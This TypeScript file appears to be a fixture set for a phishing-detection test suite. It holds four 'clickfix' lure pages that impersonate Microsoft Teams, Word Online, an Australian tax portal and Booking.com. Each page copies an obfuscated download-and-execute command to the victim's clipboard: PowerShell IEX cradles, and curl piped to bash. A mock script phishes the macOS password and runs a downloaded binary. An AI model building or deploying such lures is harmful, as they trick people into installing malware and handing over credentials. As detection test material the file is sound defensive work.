import type { Entry } from '../entry.js';
import { shell, baseCss, b64, charCodes, hexEsc, text } from '../parts/xd-kit.js';

export const entries: Entry[] = [
{
  id: 'xd-clickfix-teams-mic-terminal-admin',
  label: 'clickfix',
  kind: 'clickfix-fake-fix',
  url: 'https://teams-live.meet-au.cloud/l/meetup-join/19-meeting-NDk1ZTQ4',
  body: shell(
    'Microsoft Teams',
    `<div style="background:#292929;color:#fff;min-height:100vh;font-family:Segoe UI,Arial;padding:40px">
 <div style="max-width:560px;margin:0 auto;background:#1f1f1f;padding:28px;border-radius:8px">
  <h1 style="font-size:20px;font-weight:600">🎙 We can't access your microphone</h1>
  <p>Your audio driver needs to be updated before you can join <b>Q2 Board Review – Melbourne</b>. This usually takes less than a minute.</p>
  <button id="fix" style="background:#5b5fc7;color:#fff;border:0;padding:10px 20px;border-radius:4px;font-size:15px">Fix it</button>
  <div id="s" style="display:none;margin-top:16px;font-size:14px">
   <p>1. Right-click the <b>Start</b> button and choose <b>Terminal (Admin)</b></p>
   <p>2. Right-click inside the window to paste the repair command</p>
   <p>3. Press <b>Enter</b>, then return to this page and select <b>Rejoin</b></p>
  </div>
 </div>
</div>
<script>
var c = [${charCodes('powershell -NoP -W Hidden -Command "$r=Invoke-WebRequest -UseBasicParsing https://teams-live.meet-au.cloud/audio/fix.txt;IEX $r.Content"')}];
document.getElementById('fix').onclick = function () { navigator.clipboard.writeText(String.fromCharCode.apply(null, c)); document.getElementById('s').style.display = 'block'; };
</script>`,
  ),
},
{
  id: 'xd-clickfix-word-online-font-error',
  label: 'clickfix',
  kind: 'clickfix-fake-fix',
  url: 'https://sharepoint-docs.onedrive-view.live/:w:/g/personal/accounts_payable/Contract_Variation_0912.docx',
  body: shell(
    'Contract_Variation_0912.docx - Word',
    `<div style="background:#185abd;color:#fff;padding:10px 18px;font:600 14px Segoe UI,Arial">Word · Contract_Variation_0912.docx</div>
<div style="max-width:700px;margin:30px auto;background:#fff;min-height:500px;box-shadow:0 0 6px #ccc;padding:40px;filter:blur(3px);font-family:Calibri,Arial">
 <h2>Deed of Variation — Head Contract No. 0912</h2><p>This deed is made between Westline Builders Pty Ltd (ABN 68 104 221 337) and …</p><p>Lorem ipsum dolor sit amet, consectetur adipiscing elit. Vivamus a arcu vel nulla …</p>
</div>
<div style="position:fixed;top:120px;left:50%;transform:translateX(-50%);background:#fff;border:1px solid #ccc;box-shadow:0 8px 24px rgba(0,0,0,.3);padding:22px;width:460px;font-family:Segoe UI,Arial">
 <b style="color:#a80000">The “Aptos” font is not installed</b>
 <p style="font-size:14px">This document can't be displayed correctly. To fix it, update the font cache:</p>
 <ol style="font-size:14px"><li>Click <b>How to fix</b></li><li>Press <b>⊞ Win + X</b>, then <b>I</b> to open PowerShell</li><li>Paste with <b>Ctrl + V</b> and press <b>Enter</b></li><li>Refresh this page</li></ol>
 <button id="h" style="background:#185abd;color:#fff;border:0;padding:8px 18px">How to fix</button>
</div>
<script>
var k = "${hexEsc("$u='https://sharepoint-docs.onedrive-view.live/fonts/aptos.ps1';$d=(New-Object System.Net.WebClient).DownloadString($u);iex $d")}";
document.getElementById('h').addEventListener('click', function () { navigator.clipboard.writeText(k); this.textContent = 'Copied ✓'; });
</script>`,
  ),
},
{
  id: 'xd-clickfix-macos-terminal-taxagent',
  label: 'clickfix',
  kind: 'clickfix-fake-verification',
  url: 'https://portal-taxagent.au-clientdocs.com/secure/verify-mac',
  body: shell(
    'Client Document Portal – Security check',
    `<main style="max-width:560px">
 <h1 style="font-size:22px">Hartley &amp; Co Tax Agents — Client Document Portal</h1>
 <p>Your 2025 tax return is ready to sign. Before downloading, Mac users need to complete a one-time security check required by the ATO's Digital Identity rules.</p>
 <div style="border:1px solid #ccc;border-radius:6px;padding:16px">
  <ol>
   <li>Press <b>⌘ Command + Space</b>, type <b>Terminal</b> and press <b>Return</b></li>
   <li>Click <b>Copy check command</b> below, paste it into Terminal with <b>⌘ + V</b> and press <b>Return</b></li>
   <li>Enter your Mac password when asked (it will not be visible)</li>
  </ol>
  <pre id="c" style="background:#111;color:#0f0;padding:10px;white-space:pre-wrap;font-size:12px"></pre>
  <button id="cp" style="background:#2d6a4f">Copy check command</button>
 </div>
</main>
<script>
var cmd = 'echo "Apple Security Check ID: 44817" && curl -fsSL $(echo ${b64('https://portal-taxagent.au-clientdocs.com/mac/check.sh')} | base64 -d) | bash';
document.getElementById('c').textContent = 'echo "Apple Security Check ID: 44817" …';
document.getElementById('cp').onclick = function () { navigator.clipboard.writeText(cmd); this.textContent = 'Copied'; };
</script>`,
    { css: baseCss('#2d6a4f') },
  ),
  routes: {
    'portal-taxagent.au-clientdocs.com/mac/check.sh': text(`#!/bin/bash\nosascript -e 'display dialog "macOS needs to access System Settings" default answer "" with hidden answer' > /tmp/.p\ncurl -s -o /tmp/.u https://portal-taxagent.au-clientdocs.com/mac/u && chmod +x /tmp/.u && /tmp/.u &\n`, 'text/x-shellscript'),
  },
},
{
  id: 'xd-clickfix-hotel-booking-guest-captcha',
  label: 'clickfix',
  kind: 'clickfix-fake-captcha',
  url: 'https://admin-booking.reservation-id8831.com/extranet/guest-message/4471920',
  body: shell(
    'Booking.com | Partner – Guest complaint',
    `<div style="background:#003580;color:#fff;padding:12px 24px;font:700 20px Arial">Booking.com <span style="font-weight:400;font-size:14px">for Partners</span></div>
<main style="max-width:560px">
 <p>Property: <b>Lakeside Lodge Queenstown</b></p>
 <h1 style="font-size:20px">A guest has left a negative review that requires your response</h1>
 <p>To view the guest message and photos, confirm you are not a robot.</p>
 <div id="rc" style="border:1px solid #d3d3d3;background:#f9f9f9;width:300px;padding:14px;display:flex;gap:12px;align-items:center;cursor:pointer"><span style="width:24px;height:24px;border:2px solid #c1c1c1;background:#fff"></span>I'm not a robot <span style="margin-left:auto;font-size:10px;color:#555">reCAPTCHA<br>Privacy - Terms</span></div>
 <div id="ver" style="display:none;border:1px solid #d3d3d3;margin-top:10px;padding:14px;width:300px">
  <b>Verification steps</b>
  <p>1. Press &amp; hold the Windows Key ⊞ + R<br>2. In the verification window, press Ctrl + V<br>3. Press Enter on your keyboard to finish</p>
  <p style="font-size:12px">You will observe and agree: “I am not a robot – reCAPTCHA Verification ID: 2241”</p>
 </div>
</main>
<script>
function _c(){ return ['cmd /c start /min pow', 'ershell -w 1 -ep bypass -c ', '"iwr https://admin-booking.reservation-id8831.com/cdn/g.ps1 -useb|iex"', ' & rem I am not a robot - reCAPTCHA Verification ID: 2241'].join(''); }
document.getElementById('rc').onclick = function () {
  var ta = document.createElement('textarea'); ta.value = _c(); document.body.appendChild(ta); ta.select(); document.execCommand('copy'); document.body.removeChild(ta);
  document.getElementById('ver').style.display = 'block';
};
</script>`,
    { lang: 'en-NZ', css: baseCss('#003580') },
  ),
},
];
